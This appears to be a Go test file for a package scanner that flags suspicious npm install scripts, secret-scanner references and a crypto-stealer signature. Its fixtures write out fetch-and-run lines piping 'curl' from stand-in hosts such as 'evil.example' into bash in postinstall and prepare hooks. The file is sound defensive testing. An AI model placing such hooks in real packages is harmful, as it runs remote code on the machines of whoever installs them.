package scanner

import (
	"context"
	"path/filepath"
	"strings"
	"testing"

	"pkgsweep/config"
	"pkgsweep/report"
)

func TestScanScriptFields_DangerousShell(t *testing.T) {
	root := t.TempDir()
	pkg := filepath.Join(root, "package.json")
	writeFile(t, pkg,
		`{"name":"app","version":"1.0.0","scripts":{"postinstall":"curl http://evil.example/x.sh | bash","test":"jest"}}`)

	s, sink := newTestScanner(t, []string{"unrelated"}, func(cfg *config.Config) {
		cfg.Roots = []string{root}
		cfg.Suspicious = config.SuspiciousScripts
	})
	s.scanScriptFields(context.Background())

	got := sink.Matches()
	if len(got) != 1 {
		t.Fatalf("matches = %d, want 1: %+v", len(got), got)
	}
	m := got[0]
	if m.Scope != report.ScopeScripts || m.Location != pkg {
		t.Errorf("unexpected match %+v", m)
	}
	if !strings.HasPrefix(m.Text, "postinstall=") {
		t.Errorf("text = %q, want postinstall key prefix", m.Text)
	}
	if !strings.Contains(m.Text, "(dangerous shell)") {
		t.Errorf("text = %q, want category annotation", m.Text)
	}
}

func TestScanScriptFields_OneMatchPerCategory(t *testing.T) {
	root := t.TempDir()
	// One value tripping two independent categories yields two findings.
	writeFile(t, filepath.Join(root, "package.json"),
		`{"name":"app","version":"1.0.0","scripts":{"prepare":"trufflehog filesystem . && curl http://x.test/a | sh"}}`)

	s, sink := newTestScanner(t, []string{"unrelated"}, func(cfg *config.Config) {
		cfg.Roots = []string{root}
		cfg.Suspicious = config.SuspiciousScripts
	})
	s.scanScriptFields(context.Background())

	if n := sink.Count(); n != 2 {
		t.Fatalf("matches = %d, want 2: %+v", n, sink.Matches())
	}
}

func TestScanScriptFields_LongValueKeepsAnnotation(t *testing.T) {
	root := t.TempDir()
	// An obfuscated one-liner near the value cap must not push the
	// category annotation past the report length limit.
	long := "curl http://evil.example/" + strings.Repeat("a", 200) + " | bash"
	writeFile(t, filepath.Join(root, "package.json"),
		`{"name":"app","version":"1.0.0","scripts":{"postinstall":"`+long+`"}}`)

	s, sink := newTestScanner(t, []string{"unrelated"}, func(cfg *config.Config) {
		cfg.Roots = []string{root}
		cfg.Suspicious = config.SuspiciousScripts
	})
	s.scanScriptFields(context.Background())

	got := sink.Matches()
	if len(got) != 1 {
		t.Fatalf("matches = %d, want 1: %+v", len(got), got)
	}
	text := got[0].Text
	if !strings.HasSuffix(text, "(dangerous shell)") {
		t.Errorf("text = %q, want the annotation at the end", text)
	}
	if n := len([]rune(text)); n > report.MaxMatchText {
		t.Errorf("text is %d runes, want at most %d", n, report.MaxMatchText)
	}
}

func TestScanScriptFields_LongValueCategoriesStayDistinct(t *testing.T) {
	root := t.TempDir()
	long := "trufflehog filesystem . && curl http://evil.example/" + strings.Repeat("a", 200) + " | sh"
	writeFile(t, filepath.Join(root, "package.json"),
		`{"name":"app","version":"1.0.0","scripts":{"prepare":"`+long+`"}}`)

	s, sink := newTestScanner(t, []string{"unrelated"}, func(cfg *config.Config) {
		cfg.Roots = []string{root}
		cfg.Suspicious = config.SuspiciousScripts
	})
	s.scanScriptFields(context.Background())

	got := sink.Matches()
	if len(got) != 2 {
		t.Fatalf("matches = %d, want 2: %+v", len(got), got)
	}
	if got[0].Text == got[1].Text {
		t.Errorf("both findings carry identical text %q, want distinct annotations", got[0].Text)
	}
	suffixes := []string{"(dangerous shell)", "(trufflehog ref)"}
	for i, m := range got {
		found := false
		for _, suf := range suffixes {
			if strings.HasSuffix(m.Text, suf) {
				found = true
			}
		}
		if !found {
			t.Errorf("finding %d text = %q, want a category annotation at the end", i, m.Text)
		}
	}
}

func TestScanScriptFields_SkipsDependencyDirs(t *testing.T) {
	root := t.TempDir()
	writeFile(t, filepath.Join(root, "node_modules", "dep", "package.json"),
		`{"name":"dep","version":"1.0.0","scripts":{"postinstall":"curl http://evil.example/x | sh"}}`)

	s, sink := newTestScanner(t, []string{"unrelated"}, func(cfg *config.Config) {
		cfg.Roots = []string{root}
		cfg.Suspicious = config.SuspiciousScripts
	})
	s.scanScriptFields(context.Background())

	if n := sink.Count(); n != 0 {
		t.Fatalf("matches = %d, want 0 inside node_modules: %+v", n, sink.Matches())
	}
}

func TestScanCodeContent_CuratedSet(t *testing.T) {
	root := t.TempDir()
	hit := filepath.Join(root, "bundle.js")
	writeFile(t, hit, "const w = \"0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976\";\n")
	// Outside the curated set in scripts mode, so never opened.
	writeFile(t, filepath.Join(root, "dump.bin2"), "checkethereumw\n")

	s, sink := newTestScanner(t, []string{"unrelated"}, func(cfg *config.Config) {
		cfg.Roots = []string{root}
		cfg.Suspicious = config.SuspiciousScripts
	})
	s.scanCodeContent(context.Background())

	got := sink.Matches()
	if len(got) != 1 {
		t.Fatalf("matches = %d, want 1: %+v", len(got), got)
	}
	if got[0].Scope != report.ScopeCode || got[0].Location != hit {
		t.Errorf("unexpected match %+v", got[0])
	}
}

func TestScanCodeContent_BroadMode(t *testing.T) {
	root := t.TempDir()
	writeFile(t, filepath.Join(root, "dump.bin2"), "checkethereumw\n")

	s, sink := newTestScanner(t, []string{"unrelated"}, func(cfg *config.Config) {
		cfg.Roots = []string{root}
		cfg.Suspicious = config.SuspiciousBroad
	})
	s.scanCodeContent(context.Background())

	if n := sink.Count(); n != 1 {
		t.Fatalf("matches = %d, want 1 in broad mode: %+v", n, sink.Matches())
	}
}

func TestScanFileContent_LargerThanSniffWindow(t *testing.T) {
	root := t.TempDir()
	path := filepath.Join(root, "payload.js")
	// Text body well past the 512-byte sniff prefix, signature on the
	// last line; the scan must rewind and cover the whole file.
	writeFile(t, path,
		"// "+strings.Repeat("padding ", 100)+"\n"+
			"window.checkethereumw = true;\n")

	s, sink := newTestScanner(t, []string{"unrelated"}, func(cfg *config.Config) {
		cfg.Suspicious = config.SuspiciousScripts
	})
	s.scanFileContent(path)

	got := sink.Matches()
	if len(got) != 1 {
		t.Fatalf("matches = %d, want 1: %+v", len(got), got)
	}
	if got[0].Scope != report.ScopeCode || got[0].Location != path {
		t.Errorf("unexpected match %+v", got[0])
	}
}

func TestScanFileContent_ShortTextFile(t *testing.T) {
	root := t.TempDir()
	path := filepath.Join(root, "tiny.sh")
	writeFile(t, path, "curl http://evil.example/x | sh\n")

	s, sink := newTestScanner(t, []string{"unrelated"}, func(cfg *config.Config) {
		cfg.Suspicious = config.SuspiciousScripts
	})
	s.scanFileContent(path)

	if n := sink.Count(); n != 1 {
		t.Fatalf("matches = %d, want 1 for a file below the sniff size: %+v", n, sink.Matches())
	}
}

func TestScanCodeContent_SkipsBinary(t *testing.T) {
	root := t.TempDir()
	writeFile(t, filepath.Join(root, "blob.js"),
		"\x00\x01\x02\x03checkethereumw\n")

	s, sink := newTestScanner(t, []string{"unrelated"}, func(cfg *config.Config) {
		cfg.Roots = []string{root}
		cfg.Suspicious = config.SuspiciousBroad
	})
	s.scanCodeContent(context.Background())

	if n := sink.Count(); n != 0 {
		t.Fatalf("matches = %d, want 0 for binary content: %+v", n, sink.Matches())
	}
}

func TestCodeScanCandidate(t *testing.T) {
	s, _ := newTestScanner(t, []string{"x"}, func(cfg *config.Config) {
		cfg.Suspicious = config.SuspiciousScripts
	})

	for _, name := range []string{"index.js", "setup.PY", "Dockerfile", "config.yaml"} {
		if !s.codeScanCandidate(name) {
			t.Errorf("%s should be a candidate in scripts mode", name)
		}
	}
	for _, name := range []string{"photo.png", "package-lock.json", "yarn.lock", "binary"} {
		if s.codeScanCandidate(name) {
			t.Errorf("%s should not be a candidate in scripts mode", name)
		}
	}

	s.cfg.Suspicious = config.SuspiciousBroad
	if !s.codeScanCandidate("photo.png") {
		t.Error("broad mode scans every extension")
	}
	if s.codeScanCandidate("pnpm-lock.yaml") {
		t.Error("lockfiles keep their own scope even in broad mode")
	}
}
